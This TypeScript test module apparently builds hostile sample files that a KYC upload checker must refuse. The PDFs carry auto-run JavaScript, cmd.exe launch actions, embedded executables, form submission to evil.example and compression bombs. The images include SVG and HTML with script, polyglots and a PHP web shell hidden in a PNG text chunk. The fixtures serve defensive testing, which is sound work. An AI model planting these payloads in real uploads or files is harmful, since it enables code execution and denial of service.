import { deflateSync, gzipSync } from 'node:zlib'
import {
  chunk,
  JS,
  jpegOf,
  MB,
  pdfWith,
  picture,
  pngClaiming,
  type SampleFile,
  text,
  with_,
  zipOf,
} from './kyc-file-parts.ts'
import { flate, objectStream, PAGE, pdfOf, streamOf } from './sample-pdf.ts'

const hostilePdfs = (): SampleFile[] => [
  { what: 'a script on opening', name: 'a.pdf', content: pdfWith(`/OpenAction ${JS}`) },
  {
    what: 'a script behind a reference',
    name: 'b.pdf',
    content: pdfWith('/OpenAction 9 0 R', { number: 9, value: JS }),
  },
  {
    what: 'a script with escaped letters',
    name: 'c.pdf',
    content: pdfWith('/OpenAction << /S /J#61va#53cript /J#53 (x) >>'),
  },
  {
    what: 'a script in an object stream',
    name: 'd.pdf',
    content: pdfWith('/OpenAction 9 0 R', objectStream(8, [{ number: 9, value: JS }])),
  },
  {
    what: 'an escaped script in an object stream',
    name: 'e.pdf',
    content: with_(objectStream(8, [{ number: 9, value: '<< /S /#4aavaScript /J#53 (x) >>' }])),
  },
  {
    what: 'an object stream without its type',
    name: 'f.pdf',
    content: with_(flate(8, `9 0 ${JS}`, '/N 1 /First 4')),
  },
  {
    what: 'an object stream under two filters',
    name: 'g.pdf',
    content: with_(
      streamOf(8, `9 0 ${JS}`, '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', (bytes) =>
        deflateSync(deflateSync(bytes)),
      ),
    ),
  },
  {
    what: 'an object stream that predicts',
    name: 'h.pdf',
    content: with_(flate(8, `9 0 ${JS}`, '/Type /ObjStm /N 1 /First 4 /DecodeParms << /Predictor 12 >>')),
  },
  {
    what: 'the kind of an action as an object of its own',
    name: 'i.pdf',
    content: with_({ number: 8, value: '<< /S 9 0 R /F (calc.exe) >>' }, { number: 9, value: '/Launch' }),
  },
  {
    what: 'a program to start',
    name: 'j.pdf',
    content: with_({ number: 9, value: '<< /S /Launch /F (cmd.exe) >>' }),
  },
  {
    what: 'an attached file',
    name: 'k.pdf',
    content: pdfWith(
      '/Names << /EmbeddedFiles << /Names [(x) 9 0 R] >> >>',
      { number: 9, value: '<< /Type /Filespec /F (x.exe) /EF << /F 8 0 R >> >>' },
      streamOf(8, 'MZ', '/Type /EmbeddedFile'),
    ),
  },
  {
    what: 'a form program (XFA)',
    name: 'l.pdf',
    content: pdfWith('/AcroForm << /XFA 9 0 R >>', streamOf(9, '<xdp/>')),
  },
  {
    what: 'a form that sends itself',
    name: 'm.pdf',
    content: with_({ number: 9, value: '<< /S /SubmitForm /F (https://evil.example) >>' }),
  },
  { what: 'actions of a page', name: 'n.pdf', content: pdfWith(`/AA << /WC ${JS} >>`) },
  {
    what: 'another file to go to',
    name: 'o.pdf',
    content: with_({ number: 9, value: '<< /S /GoToR /F (//evil/x) >>' }),
  },
  { what: 'rich media', name: 'p.pdf', content: with_({ number: 9, value: '<< /Subtype /RichMedia >>' }) },
  {
    what: 'a web page on opening',
    name: 'q.pdf',
    content: pdfWith('/OpenAction << /S /URI /URI (https://evil.example) >>'),
  },
  {
    what: 'a stream of another file',
    name: 'r.pdf',
    content: with_(streamOf(9, '', '/F (//evil.example/share)')),
  },
  {
    what: 'encryption',
    name: 's.pdf',
    content: pdfOf(PAGE, '/Root 1 0 R /Encrypt << /Filter /Standard /V 1 >>'),
  },
  {
    what: 'an object hidden in a string',
    name: 't.pdf',
    content: with_({ number: 9, value: `(\n1 0 obj << /Type /Catalog /OpenAction 8 0 R >> endobj )` }),
  },
  {
    what: 'an object hidden in a stream',
    name: 'u.pdf',
    content: with_(streamOf(9, `\n1 0 obj << /Type /Catalog >> endobj\n`)),
  },
  {
    what: 'an object hidden in a comment',
    name: 'v.pdf',
    content: Buffer.concat([pdfOf(PAGE), text(`% 1 0 obj << /Type /Catalog >> endobj\n%%EOF\n`)]),
  },
  {
    what: 'a stream that says it is longer',
    name: 'w.pdf',
    content: with_({ number: 9, value: '<< /Length 900 >>', stream: text('short') }),
  },
  {
    what: 'a key that stands twice',
    name: 'x.pdf',
    content: pdfWith('/OpenAction [3 0 R /Fit] /OpenAction null'),
  },
  {
    what: 'a bomb',
    name: 'y.pdf',
    content: with_(...Array.from({ length: 8 }, (_, n) => flate(9 + n, Buffer.alloc(45 * MB)))),
  },
  {
    what: 'a bomb in an object stream',
    name: 'z.pdf',
    content: with_(flate(9, Buffer.alloc(20 * MB, 32), '/Type /ObjStm /N 1 /First 4')),
  },
  {
    what: 'a picture of a billion pixels',
    name: 'aa.pdf',
    content: with_(streamOf(9, 'x', '/Subtype /Image /Width 40000 /Height 40000 /Filter /CCITTFaxDecode')),
  },
  { what: 'brackets without an end', name: 'ab.pdf', content: with_({ number: 9, value: '['.repeat(5000) }) },
  {
    what: 'objects read over and over',
    name: 'ac.pdf',
    content: with_(
      flate(
        9,
        `${'9 0 '.repeat(20_000)}[${'0 '.repeat(60_000)}]`,
        `/Type /ObjStm /N 20000 /First ${20_000 * 4}`,
      ),
    ),
  },
  {
    what: 'a thousand pages',
    name: 'ad.pdf',
    content: with_(...Array.from({ length: 60 }, (_, n) => ({ number: 10 + n, value: '<< /Type /Page >>' }))),
  },
  { what: 'a cut-off end', name: 'ae.pdf', content: pdfOf(PAGE).subarray(0, 200) },
  { what: 'only a header', name: 'af.pdf', content: text('%PDF-1.7\n%%EOF\n') },
  {
    what: 'something before the header',
    name: 'ag.pdf',
    content: Buffer.concat([text('<html>'), pdfOf(PAGE)]),
  },
  {
    what: 'an archive behind it',
    name: 'ah.pdf',
    content: Buffer.concat([pdfOf(PAGE), zipOf('x.exe', text('MZ'))]),
  },
  {
    what: 'an older revision with a script',
    name: 'ai.pdf',
    content: Buffer.concat([
      pdfOf([...PAGE, { number: 9, value: JS }]),
      text('9 0 obj\nnull\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'),
    ]),
  },
]

const hostilePictures = async (): Promise<SampleFile[]> => {
  const jpeg = await jpegOf()
  const png = await picture().png().toBuffer()
  const webp = await picture().webp().toBuffer()
  return [
    {
      what: 'a page under the name of a picture',
      name: 'a.png',
      content: text('<html><script>alert(1)</script></html>'),
    },
    {
      what: 'SVG',
      name: 'b.svg',
      content: text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    },
    {
      what: 'SVG under the name of a PNG',
      name: 'c.png',
      content: text('<?xml version="1.0"?><svg onload="x"/>'),
    },
    { what: 'a GIF', name: 'd.gif', content: await picture().gif().toBuffer() },
    { what: 'a TIFF under the name of a JPEG', name: 'e.jpg', content: await picture().tiff().toBuffer() },
    { what: 'an archive', name: 'f.zip', content: zipOf('x.exe', text('MZ')) },
    { what: 'a packed bomb', name: 'g.png', content: gzipSync(Buffer.alloc(50 * MB)) },
    { what: 'a program', name: 'h.jpg', content: Buffer.concat([text('MZ'), Buffer.alloc(400)]) },
    { what: 'nothing', name: 'i.png', content: Buffer.alloc(0) },
    { what: 'only a head', name: 'j.jpg', content: jpeg.subarray(0, 20) },
    { what: 'half a JPEG', name: 'k.jpg', content: jpeg.subarray(0, Math.floor(jpeg.length / 2)) },
    { what: 'half a PNG', name: 'l.png', content: png.subarray(0, Math.floor(png.length / 2)) },
    { what: 'half a WebP', name: 'm.webp', content: webp.subarray(0, Math.floor(webp.length / 2)) },
    { what: 'a PNG of 900 million pixels', name: 'n.png', content: pngClaiming(30_000, 30_000, 1000) },
    {
      what: 'a PNG that claims the largest size',
      name: 'o.png',
      content: pngClaiming(0x7fffffff, 0x7fffffff, 1000),
    },
    { what: 'a PNG that packs far less than it claims', name: 'p.png', content: pngClaiming(4000, 4000, 10) },
    { what: 'a PNG without a pixel', name: 'q.png', content: pngClaiming(0, 0, 0) },
    {
      what: 'a JPEG with an archive behind it',
      name: 'r.jpg',
      content: Buffer.concat([jpeg, zipOf('x.exe', text('MZ'))]),
    },
    {
      what: 'a JPEG with a script behind it',
      name: 's.jpg',
      content: Buffer.concat([jpeg, text('<script>alert(1)</script>')]),
    },
    {
      what: 'a PNG with a program in its text',
      name: 't.png',
      content: Buffer.concat([
        png.subarray(0, 33),
        chunk('tEXt', text('Comment\0<?php system($_GET[1]); ?>')),
        png.subarray(33),
      ]),
    },
    {
      what: 'a JPEG that is a PDF too',
      name: 'u.jpg',
      content: Buffer.concat([
        jpeg.subarray(0, 2),
        text('\xff\xfe\x00\x10%PDF-1.7\n1234'),
        jpeg.subarray(2),
        pdfOf(PAGE),
      ]),
    },
    {
      what: 'noise behind a JPEG’s first bytes',
      name: 'v.jpg',
      content: Buffer.concat([text('\xff\xd8\xff\xe0'), Buffer.alloc(3000, 0x5a)]),
    },
    {
      what: 'noise behind a WebP’s first bytes',
      name: 'w.webp',
      content: Buffer.concat([text('RIFF\x10\0\0\0WEBPVP8 '), Buffer.alloc(300, 7)]),
    },
  ]
}

/** Every one must be refused. */
export const hostileFiles = async (): Promise<SampleFile[]> => [
  ...hostilePdfs(),
  ...(await hostilePictures()),
]
